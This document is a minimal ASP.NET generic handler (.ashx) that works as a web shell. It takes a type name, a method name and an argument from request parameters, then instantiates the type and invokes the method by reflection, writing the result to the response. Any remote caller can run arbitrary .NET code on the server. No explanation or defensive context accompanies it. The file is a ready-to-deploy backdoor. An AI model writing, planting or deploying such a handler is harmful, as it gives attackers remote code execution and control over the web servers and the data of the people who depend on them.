<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    var t = Type.GetType(c.Request["t"]);
    var m = t.GetMethod(c.Request["m"]);
    c.Response.Write(m.Invoke(Activator.CreateInstance(t), new object[]{ c.Request["a"] }));
  }
  public bool IsReusable { get { return false; } }
}
